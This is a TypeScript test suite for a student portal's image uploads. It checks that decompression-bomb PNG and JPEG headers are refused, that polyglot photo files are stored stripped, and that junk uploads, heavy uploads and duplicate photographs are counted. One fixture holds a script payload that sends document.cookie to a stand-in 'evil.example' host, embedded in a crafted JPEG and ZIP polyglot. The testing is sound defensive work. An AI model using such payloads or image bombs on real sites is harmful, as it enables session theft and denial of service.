import sharp from 'sharp'
import * as v from 'valibot'
import { expect, test } from 'vitest'
import { maxPixels } from '../../src/documents/image/judge.ts'
import { documentTypes } from '../../src/spec/documents.ts'
import { insertSegments, segment } from '../../tests/photos/exif.ts'
import { chunk, header, png, withJpegSize } from '../../tests/photos/pictures.ts'
import { pngPixels } from '../src/limits/limits.ts'
import { ownCounts } from '../src/limits/rates.ts'
import { comparisonsOf } from '../src/operator/comparisons.ts'
import { Dossier } from '../src/operator/dossier.ts'
import { confirmAll, inventStudents, oneCampus } from './setup/campus.ts'
import { photograph } from './setup/photographs.ts'
import { photosIn } from './setup/stored.ts'
import { enrolAndConfirm, from, students } from './setup/visitor.ts'

/**
 * Pictures that are more, or cost more, than a photograph; and whoever sends a right one meanwhile.
 */

const many = inventStudents(4)
const { server, visitor } = await oneCampus(many)
const { aminata, moussa, fatoumata } = students
const [stranger, home] = [from('198.51.100.66'), from('198.51.100.7')]
const script = Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')
const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(40, 'z'), Buffer.from('PK\x05\x06')])

const send = (matricule: string, type: string, image: Buffer, where = home) =>
  visitor.send({ matricule }, type, image, where)
const storedOf = async (matricule: string) =>
  (await photosIn(server.database)).filter(photo => photo.matricule === matricule)
const told = (event: string) => server.metric(`portal_security_events_total{event="${event}"}`)

test('pictures that take gigabytes to be seen are refused by their headers, with what to do', async () => {
  const { matricule } = aminata
  await enrolAndConfirm(server, visitor, aminata, '76000001')
  const field = sharp({ create: { width: 64, height: 48, channels: 3, background: '#a85' } })
  const data = chunk('IDAT', Buffer.from('x'.repeat(100)))
  const end = chunk('IEND', Buffer.alloc(0))
  const headOf = (width: number, height: number, depth: number, colour: number, interlaced: number) => {
    const uncompressed = header(width, height, depth, colour).subarray(8, 21)
    uncompressed[12] = interlaced
    return chunk('IHDR', uncompressed)
  }
  const bombs = {
    'an interlaced PNG of 120 megapixels': png(headOf(12_000, 10_000, 8, 2, 1), data, end),
    'an interlaced PNG of 16 bits': png(headOf(6000, 5000, 16, 6, 1), data, end),
    'a PNG of 16 bits': png(headOf(12_000, 9000, 16, 6, 0), data, end),
    'a PNG of a palette, interlaced': png(headOf(9000, 7000, 1, 3, 1), data, end),
    'a progressive JPEG of 108 megapixels': withJpegSize(
      await field.clone().jpeg({ progressive: true }).toBuffer(),
      12_000,
      9000,
    ),
    'a PNG of more pixels than the portal takes': png(headOf(10_900, 11_000, 8, 0, 0), data, end),
    'a PNG of millions of rows': png(headOf(1, 9_000_000, 1, 0, 0), data, end),
    'a PNG of billions of pixels': png(headOf(60_000, 60_000, 8, 2, 0), data, end),
    'a JPEG of 144 megapixels': withJpegSize(await field.clone().jpeg().toBuffer(), 12_000, 12_000),
  }
  const before = await told('imageBomb')
  for (const [what, bytes] of Object.entries(bombs)) {
    const { http, json } = await send(matricule, 'attest', bytes, stranger)
    expect([http, json], what).toEqual([422, { status: 0, msg: expect.stringContaining('Prenez une photo') }])
  }
  expect(await told('imageBomb')).toBe(before + Object.keys(bombs).length)
  expect(await storedOf(matricule)).toEqual([])
})

test('what a phone’s camera and the portal write is taken: 108 megapixels, progressive ones and PNGs of 50, deep ones of 24', async () => {
  const { matricule } = aminata
  const field = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: '#a85' }, limitInputPixels: false })
  const pictures = [
    await field(12_000, 9000).jpeg().toBuffer(),
    await field(8192, 6144).jpeg({ progressive: true }).toBuffer(),
    await field(6000, 4000).toColourspace('rgb16').png().toBuffer(),
    await field(2448, 3264).png({ progressive: true }).toBuffer(),
    await field(8192, 6144).png().toBuffer(),
  ]
  for (const picture of pictures) expect((await send(matricule, 'carteid', picture)).status).toBe(1)
  expect(pngPixels).toBe(maxPixels)
}, 120_000)

test('a photograph that is also a script and an archive is stored as the photograph alone, and a repeat is known', async () => {
  const { matricule } = aminata
  const uncompressed = await photograph(3, 200, 150)
  const hostile = Buffer.concat([insertSegments(uncompressed, segment(0xfe, script)), zip, script])
  for (const bytes of [hostile, uncompressed, hostile])
    expect((await send(matricule, 'simcard', bytes)).json).toEqual({ status: 1, msg: 'Document enregistré.' })
  const [kept] = (await storedOf(matricule)).filter(({ type }) => type === 'simcard')
  expect(kept?.bytes.equals(uncompressed)).toBe(true)
  await server.operate({ name: 'accept', matricule, type: 'simcard' })
  expect((await send(matricule, 'simcard', hostile)).status).toBe(1)
  expect((await send(matricule, 'simcard', await photograph(4))).status).toBe(0)
})

test('a stranger’s junk does not use up the tries of a student', async () => {
  const { matricule } = moussa
  await enrolAndConfirm(server, visitor, moussa, '76000002')
  const cut = (await photograph(5)).subarray(0, 5000)
  const before = await told('junkUploads')
  const junk = await Promise.all(Array.from({ length: 110 }, () => send(matricule, 'attest', cut, stranger)))
  expect(new Set(junk.map(({ http }) => http))).toEqual(new Set([422]))
  expect(await told('junkUploads')).toBeGreaterThan(before + 50)
  for (const [seed, type] of documentTypes.entries())
    expect((await send(matricule, type, await photograph(10 + seed))).status, type).toBe(1)
  // Nor those of whoever stands behind the same address: what is a photograph is always one.
  expect((await send(matricule, 'attest', await photograph(20), stranger)).status).toBe(1)
})

test('an address whose pictures keep a decoder busy is told of, and none of them is refused', async () => {
  await confirmAll(server, many)
  const crowd = from('198.51.100.99')
  const flat = sharp({ create: { width: 4000, height: 4000, channels: 3, background: '#a85' } })
  const heavy = (await flat.jpeg().toBuffer()).toString('base64')
  const most = Math.max(...ownCounts.heavyUploads.map(limit => limit.most))
  const sendAll = (count: number) =>
    Promise.all(
      Array.from({ length: count }, (_, nth) =>
        visitor.send(many[nth % many.length] ?? aminata, 'attest', heavy, { ...crowd, gzip: true }),
      ),
    )
  for (let sent = 0; sent < most; sent += 20)
    expect(new Set((await sendAll(20)).map(({ status }) => status))).toEqual(new Set([1]))
  expect(await told('heavyUploads')).toBe(0)
  expect((await sendAll(1))[0]?.status).toBe(1)
  expect(await told('heavyUploads')).toBe(1)
}, 120_000)

test('one photograph as two documents is taken, and the verifier is told', async () => {
  const { matricule } = fatoumata
  await enrolAndConfirm(server, visitor, fatoumata, '76000003')
  const before = await told('samePhotograph')
  const image = await photograph(30)
  for (const type of ['attest', 'carteid', 'attest']) expect((await send(matricule, type, image)).status).toBe(1)
  expect(await told('samePhotograph')).toBe(before + 1)
  const exported = await server.operate({ name: 'export', matricule })
  const dossier = v.parse(Dossier, JSON.parse(String(exported?.files.get('dossier.json'))))
  expect(comparisonsOf('carteid', dossier)).toContain('The same photograph was sent as attest too.')
  const other = await send(matricule, 'simcard', await photograph(31))
  expect([other.status, await told('samePhotograph')]).toEqual([1, before + 1])
})
